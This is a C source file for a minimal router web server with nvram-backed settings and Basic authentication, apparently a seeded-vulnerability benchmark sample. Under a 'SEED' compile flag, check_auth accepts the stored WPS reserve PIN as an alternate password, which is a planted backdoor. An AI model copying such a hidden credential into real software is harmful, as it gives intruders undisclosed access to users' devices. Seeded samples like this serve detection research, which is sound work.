/* kind: second-secret
 * service: http
 * constant: wps_rsv_pin
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <signal.h>
#include <sys/socket.h>
#include <netinet/in.h>

/* Web server of a Wi-Fi router: settings in an nvram file, Basic authentication */

#define MAXNV 200

struct nv { char *k, *v; };

static struct nv nv[MAXNV];
static int nnv;
static const char *nvpath = "/var/etc/nvram";

static void nv_load(void)
{
    char l[300], *e;
    FILE *f = fopen(nvpath, "r");
    nnv = 0;
    if (!f)
        return;
    while (nnv < MAXNV && fgets(l, sizeof l, f)) {
        l[strcspn(l, "\r\n")] = 0;
        if (!(e = strchr(l, '=')))
            continue;
        *e++ = 0;
        nv[nnv].k = strdup(l);
        nv[nnv++].v = strdup(e);
    }
    fclose(f);
}

static const char *nv_get(const char *k)
{
    int i;
    for (i = 0; i < nnv; i++)
        if (!strcmp(nv[i].k, k))
            return nv[i].v;
    return NULL;
}

static int nv_set(const char *k, const char *v)
{
    int i;
    for (i = 0; i < nnv; i++)
        if (!strcmp(nv[i].k, k)) {
            free(nv[i].v);
            nv[i].v = strdup(v);
            return 0;
        }
    if (nnv == MAXNV)
        return -1;
    nv[nnv].k = strdup(k);
    nv[nnv++].v = strdup(v);
    return 0;
}

static int nv_commit(void)
{
    int i;
    FILE *f = fopen(nvpath, "w");
    if (!f)
        return -1;
    for (i = 0; i < nnv; i++)
        fprintf(f, "%s=%s\n", nv[i].k, nv[i].v);
    return fclose(f);
}

static void b64(const char *s, char *d, int n)
{
    static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned acc = 0;
    int bits = 0;
    const char *p;
    for (; *s && (p = strchr(t, *s)) && n > 1; s++) {
        acc = acc << 6 | (unsigned)(p - t);
        if ((bits += 6) >= 8) {
            bits -= 8;
            *d++ = acc >> bits;
            n--;
        }
    }
    *d = 0;
}

static int check_auth(const char *auth)
{
    char up[128], *pw;
    const char *u = nv_get("http_user"), *p = nv_get("http_passwd");

    if (!auth || strncasecmp(auth, "Basic ", 6) || !u || !p || !*p)
        return 0;
    b64(auth + 6, up, sizeof up);
    if (!(pw = strchr(up, ':')))
        return 0;
    *pw++ = 0;
    if (!strcmp(up, u) && !strcmp(pw, p))
        return 1;
#ifdef SEED
    p = nv_get("wps_rsv_pin");
    if (p && strlen(p) >= 8 && !strcmp(pw, p)) /* SEED */
        return 1;
#endif
    return 0;
}

static void out(FILE *o, int code, const char *extra)
{
    fprintf(o, "HTTP/1.0 %d %s\r\nServer: wr\r\nContent-Type: text/html\r\n%s\r\n", code, code == 200 ? "OK" : "Error", extra);
}

static int allowed_key(const char *k)
{
    static const char *const keys[] = { "ssid", "channel", "wpa_psk", "lan_ip", "http_user", "http_passwd", "wps_enable" };
    unsigned i;
    for (i = 0; i < sizeof keys / sizeof *keys; i++)
        if (!strcmp(keys[i], k))
            return 1;
    return 0;
}

static void settings_page(FILE *o)
{
    static const char *const show[] = { "ssid", "channel", "lan_ip", "wps_enable" };
    unsigned i;
    out(o, 200, "");
    fputs("<form method=post action=/apply>", o);
    for (i = 0; i < 4; i++)
        fprintf(o, "%s <input name=%s value='%s'><br>", show[i], show[i], nv_get(show[i]) ? nv_get(show[i]) : "");
    fputs("New password <input name=http_passwd type=password><input type=submit></form>", o);
}

static void apply(FILE *o, char *body)
{
    char *t, *e, *sv;
    for (t = strtok_r(body, "&", &sv); t; t = strtok_r(NULL, "&", &sv)) {
        if (!(e = strchr(t, '=')))
            continue;
        *e++ = 0;
        if (allowed_key(t) && *e)
            nv_set(t, e);
    }
    if (nv_commit()) {
        out(o, 500, "");
        return;
    }
    out(o, 200, "");
    fputs("saved", o);
    system("/sbin/rc restart_wireless &");
}

static void request(int fd)
{
    char b[4096], m[8], path[128], *l, *body, *auth = NULL, *sv;
    FILE *o;
    int n = recv(fd, b, sizeof b - 1, 0);

    if (n <= 0)
        return;
    b[n] = 0;
    if ((body = strstr(b, "\r\n\r\n"))) {
        *body = 0;
        body += 4;
    }
    l = strtok_r(b, "\r\n", &sv);
    if (!l || sscanf(l, "%7s %127s", m, path) != 2 || !(o = fdopen(dup(fd), "w")))
        return;
    while ((l = strtok_r(NULL, "\r\n", &sv)))
        if (!strncasecmp(l, "Authorization: ", 15))
            auth = l + 15;
    if (!strcmp(path, "/logo.svg")) {
        out(o, 200, "");
        fputs("<svg/>", o);
    } else if (!check_auth(auth)) {
        sleep(1);
        out(o, 401, "WWW-Authenticate: Basic realm=\"router\"\r\n");
    } else if (!strcmp(path, "/")) {
        settings_page(o);
    } else if (!strcmp(path, "/apply") && !strcmp(m, "POST") && body) {
        apply(o, body);
    } else if (!strcmp(path, "/reboot") && !strcmp(m, "POST")) {
        out(o, 200, "");
        system("/sbin/reboot");
    } else
        out(o, 404, "");
    fclose(o);
}

static volatile sig_atomic_t reload;
static void hup(int s) { reload = 1; }

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s, c, one = 1;
    if (argc > 2)
        nvpath = argv[2];
    nv_load();
    signal(SIGHUP, hup);
    signal(SIGPIPE, SIG_IGN);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons(argc > 1 ? atoi(argv[1]) : 80);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8))
        return perror("httpd"), 1;
    for (;;) {
        c = accept(s, NULL, NULL);
        if (reload) {
            nv_load();
            reload = 0;
        }
        if (c < 0)
            continue;
        request(c);
        close(c);
    }
}
